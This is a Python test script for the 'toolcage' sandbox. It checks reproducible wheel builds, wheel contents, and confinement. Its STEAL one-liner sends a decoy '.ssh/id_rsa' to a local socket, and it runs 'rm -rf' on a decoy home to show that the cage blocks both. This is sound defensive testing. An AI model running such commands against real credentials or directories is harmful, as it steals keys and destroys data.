# SPDX-License-Identifier: Apache-2.0
# Copyright The toolcage authors
"""The wheels: built twice they are the same bytes, and what is installed from them makes cages: `toolcage exec` and the package stop
the two attacks of `make try`, which work without a cage. An installation that a group may write is refused, with the fix."""

import hashlib
import os
import pathlib
import re
import socket
import subprocess
import sys
import tempfile
import zipfile

import tap

root, builds = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
PYTHON = "/usr/bin/python3"
STEAL = "import pathlib, socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), 2).sendall(pathlib.Path(sys.argv[2]).read_bytes())"
CAGED = """
import sys, toolcage
with toolcage.Engine() as engine:
    for words in (["rm", "-rf", sys.argv[1]], ["/usr/bin/python3", "-c", sys.argv[3], sys.argv[2], sys.argv[1] + "/.ssh/id_rsa"]):
        result = engine.run(toolcage.Call(toolcage.Policy.default(), command=words))
        print(result.status.value, result.message.replace("\\n", " "))
"""


def run(*command, env=None, **more):
    clean = {"PATH": "/usr/bin:/bin", "HOME": os.environ.get("HOME", "/"), **(env or {})}
    return subprocess.run(
        [str(word) for word in command],
        env=clean,
        capture_output=True,
        text=True,
        check=False,
        timeout=1500,
        **more,
    )


def built(scratch, name):
    """The wheels of a build of its own."""
    done = subprocess.run(
        [sys.executable, root / "tools/python-wheel", "--build", builds / name, scratch / name],
        capture_output=True,
        text=True,
        check=False,
        timeout=1500,
    )
    tap.check(done.returncode == 0, f"the wheels are built ({name})", done.stdout + done.stderr)
    return sorted((scratch / name).glob("*.whl"))


def check_content(wheels):
    for wheel in wheels:
        archive = zipfile.ZipFile(wheel)
        names = archive.namelist()
        tap.check(
            all(entry.external_attr >> 16 in (0o100755, 0o100644) for entry in archive.infolist()),
            f"{wheel.name}: modes",
            names,
        )
        tap.check(
            any(name.endswith("/licenses/LICENSE") for name in names)
            and any(name.endswith("libjansson4.txt") for name in names),
            f"{wheel.name}: licences of what is in it",
            names,
        )
        programs = [name.rsplit("/", 1)[1] for name in names if re.search(r"/toolcage(-\w+)?$", name)]
        tap.check(
            {"toolcage-helper", "toolcage-egress"} <= set(programs), f"{wheel.name}: programs", programs
        )
    package = next(wheel for wheel in wheels if wheel.name.startswith("toolcage-"))
    floor = re.search(r"manylinux_(\d+)_(\d+)_", package.name)
    tap.check(
        floor and tuple(map(int, floor.groups())) <= (2, 36),
        "the library asks for no newer glibc than Debian 12 has",
        package.name,
    )
    tap.check("toolcage/py.typed" in zipfile.ZipFile(package).namelist(), "the package has types")


def attacks(home, port, command):
    """Both of them, by this prefix of a command line, on a decoy."""
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".ssh/id_rsa").write_text("decoy")
    stolen = run(*command, PYTHON, "-c", STEAL, port, home / ".ssh/id_rsa")
    removed = run(*command, "rm", "-rf", home)
    return stolen, removed, home.exists()


def received(server):
    try:
        connection = server.accept()[0]
    except TimeoutError:
        return b""
    with connection:
        return connection.recv(100)


def check_installed(bin_, scratch):
    home = scratch / "decoy"
    work = scratch / "work"
    work.mkdir()
    os.chdir(work)
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(2)
        port = server.getsockname()[1]
        attacks(home, port, [])
        tap.check(received(server) == b"decoy" and not home.exists(), "both attacks work without a cage")
        done = run(bin_ / "toolcage", "exec", "--", "echo", "caged")
        if '"unenforceable"' in run(bin_ / "toolcage", "exec", "--json", "--", "true").stdout:
            tap.skip("the installed programs", "this machine cannot make the cage")
            return
        tap.check(done.stdout == "caged\n", "toolcage exec of the wheel", done.stdout + done.stderr)
        stolen, removed, there = attacks(home, port, [bin_ / "toolcage", "exec", "--"])
        tap.check(
            received(server) == b"" and there and stolen.returncode == 1 and (home / ".ssh/id_rsa").exists(),
            "toolcage exec stops both",
            stolen.stderr + removed.stderr,
        )
        done = run(bin_ / "python", "-I", "-c", CAGED, home, port, STEAL)
        tap.check(
            received(server) == b""
            and (home / ".ssh/id_rsa").exists()
            and len(re.findall(r"^(ok|failed) ", done.stdout, re.M)) == 2,
            "the package stops both",
            done.stdout + done.stderr,
        )
    done = run(bin_ / "toolcage", "doctor", "--prove", "--json")
    tap.check(
        done.returncode in (0, 1) and "toolcage-attacks is not" not in done.stdout + done.stderr,
        "doctor --prove finds its program",
        done.stderr,
    )


def check_loose(wheels, scratch):
    """pip gives programs the mode that the umask leaves."""
    venv = scratch / "loose"
    run(PYTHON, "-m", "venv", venv)
    done = run(
        "sh",
        "-c",
        'umask 002; exec "$@"',
        "sh",
        venv / "bin/pip",
        "install",
        "--no-index",
        "--no-deps",
        "--no-cache-dir",
        *wheels,
    )
    tap.check(done.returncode == 0, "installed under umask 002", done.stderr)
    done = run(venv / "bin/python", "-I", "-c", "import toolcage; toolcage.Engine()")
    tap.check(
        "can be written by its group" in done.stderr and "mode 0755" in done.stderr,
        "is refused, with the fix",
        done.stderr,
    )
    helper = next(venv.rglob("_native/toolcage-helper"))
    helper.chmod(0o755)
    done = run(venv / "bin/python", "-I", "-c", "import toolcage; toolcage.Engine()")
    tap.check(done.returncode == 0, "an engine starts once the helper has mode 0755", done.stderr)


with tempfile.TemporaryDirectory(prefix="toolcage-wheels-") as directory:
    os.chmod(directory, 0o755)
    scratch = pathlib.Path(directory)
    first, second = built(scratch, "portable"), built(scratch, "portable-again")
    sums = [
        [(wheel.name, hashlib.sha256(wheel.read_bytes()).hexdigest()) for wheel in wheels]
        for wheels in (first, second)
    ]
    if tap.check(len(sums[0]) == 2 and sums[0] == sums[1], "built twice, the same bytes", sums):
        check_content(first)
        venv = scratch / "venv"
        run(PYTHON, "-m", "venv", venv)
        done = run(venv / "bin/pip", "install", "--no-index", "--no-deps", "--no-cache-dir", *first)
        tap.check(done.returncode == 0, "installed without a network", done.stderr)
        check_installed(venv / "bin", scratch)
        check_loose(first, scratch)
    os.chdir("/")
tap.finish()
